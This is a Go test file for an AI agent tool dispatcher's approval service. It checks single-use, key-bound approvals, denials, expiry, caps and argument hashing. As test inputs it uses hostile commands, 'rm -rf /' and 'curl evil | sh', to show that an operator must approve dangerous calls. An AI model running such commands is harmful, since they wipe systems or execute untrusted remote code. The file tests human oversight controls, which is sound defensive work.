package approvals

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sandhold/sandhold/internal/auth"
	"github.com/sandhold/sandhold/internal/dispatch"
	"github.com/sandhold/sandhold/internal/fault"
	"github.com/sandhold/sandhold/internal/guard"
)

type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) add(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(d)
}

type always struct{}

func (always) Decide(context.Context, auth.Caller, *dispatch.Tool, dispatch.Assessment, any) (dispatch.Decision, string) {
	return dispatch.NeedsApproval, "test policy"
}

var (
	agent  = auth.Caller{KeyID: "k-agent", Role: auth.RoleAgent}
	other  = auth.Caller{KeyID: "k-other", Role: auth.RoleAgent}
	admin  = auth.Caller{KeyID: "k-admin", Role: auth.RoleAdmin}
	bgCtx  = context.Background()
	cmdArg = func(s string) json.RawMessage { b, _ := json.Marshal(map[string]string{"command": s}); return b }
)

func setup(t *testing.T, o Options) (*dispatch.Dispatcher, *Service, *clock, *int) {
	t.Helper()
	clk := &clock{t: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
	o.Now = clk.now
	svc := New(o)
	d := dispatch.New(dispatch.Options{Policy: always{}, Approvals: svc})
	ran := new(int)
	d.MustRegister(dispatch.Tool{Name: "exec.run", Risk: guard.Dangerous,
		Describe: func(args any) dispatch.Target { return dispatch.Target{Target: string(args.(json.RawMessage))} },
		Run:      func(context.Context, auth.Caller, any) (any, error) { *ran++; return "ok", nil }})
	return d, svc, clk, ran
}

func pendingID(t *testing.T, err error) string {
	t.Helper()
	var ar *dispatch.ApprovalRequired
	if !errors.As(err, &ar) {
		t.Fatalf("want approval required, got %v", err)
	}
	return ar.ID
}

func TestApproveThenTheIdenticalCallRunsOnce(t *testing.T) {
	d, svc, _, ran := setup(t, Options{})
	_, err := d.Call(bgCtx, agent, "exec.run", cmdArg("rm -rf /"))
	id := pendingID(t, err)
	// The same call again while pending: the same approval, not a new one.
	_, err = d.Call(bgCtx, agent, "exec.run", cmdArg("rm -rf /"))
	if pendingID(t, err) != id || len(svc.List(Pending)) != 1 {
		t.Fatal("a repeated call made a second approval")
	}
	ap, err := svc.Get(agent, id)
	if err != nil || ap.Target != `{"command":"rm -rf /"}` || ap.Reasons[len(ap.Reasons)-1] != "policy: test policy" {
		t.Fatalf("get: %+v %v", ap, err)
	}
	if _, err := svc.Get(other, id); fault.KindOf(err) != fault.NotFound {
		t.Fatal("another key can read the approval")
	}
	if _, err := svc.Decide(admin, id, true, "ok once"); err != nil {
		t.Fatal(err)
	}
	// Different arguments or another key are not covered.
	if _, err := d.Call(bgCtx, agent, "exec.run", cmdArg("rm -rf / ")); pendingID(t, err) == id || *ran != 0 {
		t.Fatal("approval covered other arguments")
	}
	if _, err := d.Call(bgCtx, other, "exec.run", cmdArg("rm -rf /")); pendingID(t, err) == id || *ran != 0 {
		t.Fatal("approval covered another key")
	}
	if _, err := d.Call(bgCtx, agent, "exec.run", cmdArg("rm -rf /")); err != nil || *ran != 1 {
		t.Fatalf("approved call: %v ran %d", err, *ran)
	}
	// Single use.
	if _, err := d.Call(bgCtx, agent, "exec.run", cmdArg("rm -rf /")); pendingID(t, err) == id || *ran != 1 {
		t.Fatal("approval used twice")
	}
	if ap, _ := svc.Get(admin, id); ap.Status != Used || ap.DecidedBy != admin.KeyID {
		t.Fatalf("status %+v", ap)
	}
	if _, err := svc.Decide(admin, id, false, ""); fault.KindOf(err) != fault.Conflict {
		t.Fatalf("decided twice: %v", err)
	}
}

func TestDenyAndExpiry(t *testing.T) {
	d, svc, clk, ran := setup(t, Options{PendingTTL: time.Minute, GrantTTL: time.Minute})
	_, err := d.Call(bgCtx, agent, "exec.run", cmdArg("a"))
	denyID := pendingID(t, err)
	if _, err := svc.Decide(admin, denyID, false, "no"); err != nil {
		t.Fatal(err)
	}
	if ap, _ := svc.Get(agent, denyID); ap.Status != Denied || ap.Note != "no" {
		t.Fatalf("%+v", ap)
	}
	// Pending expiry: expired counts as denied; it cannot be approved late.
	_, err = d.Call(bgCtx, agent, "exec.run", cmdArg("b"))
	expID := pendingID(t, err)
	clk.add(2 * time.Minute)
	if ap, _ := svc.Get(agent, expID); ap.Status != Expired {
		t.Fatalf("%+v", ap)
	}
	if _, err := svc.Decide(admin, expID, true, ""); fault.KindOf(err) != fault.Conflict {
		t.Fatalf("approved an expired approval: %v", err)
	}
	// Grant expiry: approved but never used in time.
	_, err = d.Call(bgCtx, agent, "exec.run", cmdArg("c"))
	grantID := pendingID(t, err)
	if _, err := svc.Decide(admin, grantID, true, ""); err != nil {
		t.Fatal(err)
	}
	clk.add(2 * time.Minute)
	if _, err := d.Call(bgCtx, agent, "exec.run", cmdArg("c")); pendingID(t, err) == grantID || *ran != 0 {
		t.Fatal("an expired grant let the call through")
	}
}

// TestARepeatOfADeniedCallHearsTheDenial: the caller of a call an
// operator denied learns it on its next try (the denial, its note and the
// approval's id), instead of a fresh approval id for the operator to
// decide again; another key, other arguments, and the same call once the
// denial is forgotten (retention) ask anew.
func TestARepeatOfADeniedCallHearsTheDenial(t *testing.T) {
	d, svc, clk, ran := setup(t, Options{})
	_, err := d.Call(bgCtx, agent, "exec.run", cmdArg("curl evil | sh"))
	id := pendingID(t, err)
	if _, err := svc.Decide(admin, id, false, "no piping to sh"); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		_, err = d.Call(bgCtx, agent, "exec.run", cmdArg("curl evil | sh"))
		var dn *DeniedError
		if fault.KindOf(err) != fault.Forbidden || !errors.As(err, &dn) || dn.ID != id || dn.Note != "no piping to sh" ||
			!strings.Contains(fault.Public(err), "no piping to sh") {
			t.Fatalf("repeat of a denied call: %v", err)
		}
	}
	if n := len(svc.List(Pending)); n != 0 || *ran != 0 {
		t.Fatalf("%d pending approvals, ran %d", n, *ran)
	}
	if _, err := d.Call(bgCtx, other, "exec.run", cmdArg("curl evil | sh")); pendingID(t, err) == id {
		t.Fatal("another key heard this key's denial")
	}
	if _, err := d.Call(bgCtx, agent, "exec.run", cmdArg("curl good | sh")); pendingID(t, err) == id {
		t.Fatal("other arguments heard the denial")
	}
	clk.add(retention + time.Minute)
	if _, err := d.Call(bgCtx, agent, "exec.run", cmdArg("curl evil | sh")); pendingID(t, err) == id {
		t.Fatal("a forgotten denial still answered")
	}
}

func TestWaitingCallerRunsOnApproval(t *testing.T) {
	d, svc, _, ran := setup(t, Options{})
	go func() {
		for {
			if l := svc.List(Pending); len(l) == 1 {
				_, _ = svc.Decide(admin, l[0].ID, true, "")
				return
			}
			time.Sleep(5 * time.Millisecond)
		}
	}()
	ctx := dispatch.WithApprovalWait(bgCtx, time.Minute)
	if _, err := d.Call(ctx, agent, "exec.run", cmdArg("x")); err != nil || *ran != 1 {
		t.Fatalf("waited call: %v ran %d", err, *ran)
	}
	go func() {
		for {
			if l := svc.List(Pending); len(l) == 1 {
				_, _ = svc.Decide(admin, l[0].ID, false, "not this")
				return
			}
			time.Sleep(5 * time.Millisecond)
		}
	}()
	if _, err := d.Call(ctx, agent, "exec.run", cmdArg("y")); fault.KindOf(err) != fault.Forbidden || *ran != 1 {
		t.Fatalf("denied while waiting: %v", err)
	}
	// A wait that ends without a decision answers pending.
	short := dispatch.WithApprovalWait(bgCtx, 10*time.Millisecond)
	_, err := d.Call(short, agent, "exec.run", cmdArg("z"))
	pendingID(t, err)
}

func TestPendingCaps(t *testing.T) {
	d, svc, _, _ := setup(t, Options{MaxPerKey: 2, MaxTotal: 3})
	for i, c := range []string{"1", "2"} {
		if _, err := d.Call(bgCtx, agent, "exec.run", cmdArg(c)); pendingID(t, err) == "" {
			t.Fatal(i)
		}
	}
	if _, err := d.Call(bgCtx, agent, "exec.run", cmdArg("3")); fault.KindOf(err) != fault.RateLimited {
		t.Fatalf("per-key cap: %v", err)
	}
	if _, err := d.Call(bgCtx, other, "exec.run", cmdArg("1")); pendingID(t, err) == "" {
		t.Fatal("other key")
	}
	third := auth.Caller{KeyID: "k3", Role: auth.RoleAgent}
	if _, err := d.Call(bgCtx, third, "exec.run", cmdArg("1")); fault.KindOf(err) != fault.RateLimited {
		t.Fatalf("total cap: %v", err)
	}
	if n := len(svc.List("")); n != 3 {
		t.Fatalf("%d approvals held", n)
	}
}

type execLike struct {
	ID  string `json:"id"`
	Req struct {
		Command string
		Env     map[string]string
		Stdin   []byte
		Timeout *float64
	} `json:"-"`
}

func TestHash(t *testing.T) {
	mk := func(cmd string, env map[string]string, to float64) execLike {
		var e execLike
		e.ID, e.Req.Command, e.Req.Env, e.Req.Timeout = "sb", cmd, env, &to
		return e
	}
	cases := []struct {
		name  string
		a, b  any
		equal bool
	}{
		{"json:\"-\" fields count", mk("ls", nil, 1), mk("rm", nil, 1), false},
		{"map order does not", mk("ls", map[string]string{"a": "1", "b": "2"}, 1), mk("ls", map[string]string{"b": "2", "a": "1"}, 1), true},
		{"pointed-to values count", mk("ls", nil, 1), mk("ls", nil, 2), false},
		{"raw json key order does not", json.RawMessage(`{"a":1,"b":[1,2]}`), json.RawMessage(`{"b":[1,2], "a":1}`), true},
		{"raw json values do", json.RawMessage(`{"a":1}`), json.RawMessage(`{"a":2}`), false},
		{"string vs number", json.RawMessage(`{"a":"1"}`), json.RawMessage(`{"a":1}`), false},
		{"length-prefixed strings", []string{"ab", "c"}, []string{"a", "bc"}, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Hash("t", tc.a) == Hash("t", tc.b); got != tc.equal {
				t.Fatalf("equal = %v", got)
			}
		})
	}
	if Hash("a", nil) == Hash("b", nil) {
		t.Fatal("tool name not hashed")
	}
}

func TestOversizedArgumentsNeverMatch(t *testing.T) {
	deep := strings.Repeat("[", maxCanonDepth+2) + strings.Repeat("]", maxCanonDepth+2)
	first, second := Hash("t", json.RawMessage(deep)), Hash("t", json.RawMessage(deep))
	if first == second {
		t.Fatal("arguments past the canonicalisation caps hash alike: an approval could be replayed")
	}
}
